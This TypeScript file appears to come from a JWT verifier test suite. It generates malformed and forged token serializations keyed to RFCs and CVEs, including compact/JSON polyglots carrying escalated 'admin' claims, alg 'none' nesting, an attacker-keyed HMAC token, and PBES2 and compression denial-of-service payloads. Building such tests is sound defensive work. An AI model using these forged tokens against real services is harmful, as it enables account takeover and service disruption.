/** Things that are no compact JWS, or are one twice over (RFC 7515 3.1 and 7.2, RFC 7516 3.1, RFC 7519 5.2). */
import { deflateRawSync } from 'node:zlib'
import { encode } from '../../testing/mint.ts'
import { groupChanges, groupsOf } from '../world/provider-claims.ts'
import type { Visitor, World } from '../world/world.ts'
import { tokenAttack, victim } from './token-attack.ts'
import { attackerKey, attackerToken, change, hmacToken, issuedToken, partsOf, signedTexts, unsigned } from './tokens.ts'

/** What an attacker would rather be: the same token with a right that it lacks. */
export function promoted(visitor: Visitor): Record<string, unknown> {
  const groups = groupChanges(visitor, [...groupsOf(visitor), 'g2', 'g10', 'admin'])
  return change(visitor.claims, { ...groups, sub: victim, username: victim })
}

type Rewrite = (world: World, visitor: Visitor) => readonly string[] | string

const shapes: readonly { name: string; source: string; texts: Rewrite }[] = [
  { name: 'one-part', source: 'RFC 7515 7.1', texts: (world, visitor) => partsOf(issuedToken(world, visitor)) },
  {
    name: 'two-parts',
    source: 'RFC 7515 7.1',
    texts: (world, visitor) => partsOf(issuedToken(world, visitor)).slice(0, 2).join('.'),
  },
  {
    name: 'four-parts',
    source: 'RFC 7515 7.1',
    texts: (world, visitor) => [
      `${issuedToken(world, visitor)}.`,
      `${issuedToken(world, visitor)}.AAAA`,
      `.${issuedToken(world, visitor)}`,
    ],
  },
  { name: 'five-parts', source: 'RFC 7516 3.1', texts: (world, visitor) => `${issuedToken(world, visitor)}.AAAA.AAAA` },
  {
    name: 'six-parts',
    source: 'CVE-2022-39227',
    texts: (world, visitor) => [
      `${issuedToken(world, visitor)}.${attackerToken(world, promoted(visitor))}`,
      `${attackerToken(world, visitor.claims)}.${issuedToken(world, visitor)}`,
    ],
  },
  { name: 'empty-parts', source: 'RFC 7515 7.1', texts: () => ['..', '.', '...', '....', '.a.', 'a..'] },
  { name: 'empty-text', source: 'RFC 7515 7.1', texts: () => ['', ' ', 'null', 'undefined', '[object Object]', '{}'] },
  { name: 'many-dots', source: 'CVE-2025-30204', texts: () => '.'.repeat(7000) },
  {
    name: 'percent-encoded',
    source: 'RFC 7515 7.1',
    texts: (world, visitor) => issuedToken(world, visitor).replaceAll('.', '%2E'),
  },
  {
    name: 'other-separators',
    source: 'RFC 7515 7.1',
    texts: (world, visitor) => [issuedToken(world, visitor).replaceAll('.', '~'), `${issuedToken(world, visitor)}~`],
  },
  { name: 'base64-whole', source: 'RFC 7515 7.1', texts: (world, visitor) => encode(issuedToken(world, visitor)) },
  {
    name: 'json-flattened',
    source: 'RFC 7515 7.2.2',
    texts: (world, visitor) => spellings(flattened(issuedToken(world, visitor))),
  },
  {
    name: 'json-general',
    source: 'RFC 7515 7.2.1',
    texts: (world, visitor) => spellings(general(issuedToken(world, visitor))),
  },
  {
    name: 'json-flattened-forged',
    source: 'RFC 7515 7.2.2',
    texts: (world, visitor) => spellings(flattened(attackerToken(world, visitor.claims))),
  },
  { name: 'json-around-compact', source: 'CVE-2022-39227', texts: polyglots },
  { name: 'nested-in-payload', source: 'RFC 7519 5.2', texts: nested },
  {
    name: 'encrypted-direct',
    source: 'CVE-2026-29000',
    texts: (world, visitor) => encrypted(world, visitor, { alg: 'dir', enc: 'A256GCM', cty: 'JWT' }),
  },
  {
    name: 'encrypted-password',
    source: 'CVE-2022-36083',
    texts: (world, visitor) =>
      encrypted(world, visitor, { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2_147_483_647, p2s: 'AAAAAAAAAAA' }),
  },
  {
    name: 'encrypted-zip',
    source: 'CVE-2024-28176',
    texts: (world, visitor) => encrypted(world, visitor, { alg: 'dir', enc: 'A128GCM', zip: 'DEF' }),
  },
  {
    name: 'hmac-by-attacker',
    source: 'RFC 8725 2.1',
    texts: (_world, { issuer, claims }) =>
      hmacToken('HS256', Buffer.from('attacker'), { kid: issuer.keys[0].kid }, claims),
  },
]

export const serializationAttacks = shapes.map(({ name, source, texts }) =>
  tokenAttack(`shape-${name}`, 'serialization', source, texts),
)

function flattened(token: string): object {
  const [protectedHeader, payload, signature] = partsOf(token)
  return { payload, protected: protectedHeader, signature }
}

function general(token: string): object {
  const [protectedHeader, payload, signature] = partsOf(token)
  return { payload, signatures: [{ protected: protectedHeader, signature }] }
}

function spellings(value: object): string[] {
  const text = JSON.stringify(value)
  return [text, encodeURIComponent(text), encode(text)]
}

/** One text that reads as a JSON serialization with the true signature, and by its dots as a compact one with other claims. */
function polyglots(world: World, visitor: Visitor): string[] {
  const [header, payload, signature] = partsOf(issuedToken(world, visitor))
  const fake = encode(promoted(visitor))
  return [
    `{"${header}.${fake}.":"","protected":"${header}","payload":"${payload}","signature":"${signature}"}`,
    `${header}.${fake}.${signature}.${payload}`,
  ]
}

/** The payload is a token itself: signed by the issuer around a forged one, and the other way round. */
function nested(world: World, visitor: Visitor): string[] {
  const key = visitor.issuer.keys[0]
  const header = JSON.stringify({ alg: key.algorithm, kid: key.kid, cty: 'JWT' })
  return [
    signedTexts(world, key, header, attackerToken(world, visitor.claims)),
    signedTexts(world, key, header, unsigned({ alg: 'none' }, visitor.claims)),
    unsigned({ alg: 'none', cty: 'JWT' }, issuedToken(world, visitor)),
  ]
}

function encrypted(world: World, { issuer, claims }: Visitor, header: object): string[] {
  const inner = Buffer.from(unsigned({ alg: 'none' }, claims))
  const middle = [attackerKey(world).kid, issuer.keys[0].kid].map((kid) => encode({ ...header, kid }))
  return middle.map((first) => `${first}..AAAAAAAAAAAAAAAA.${encode(deflateRawSync(inner))}.AAAAAAAAAAAAAAAAAAAAAA`)
}
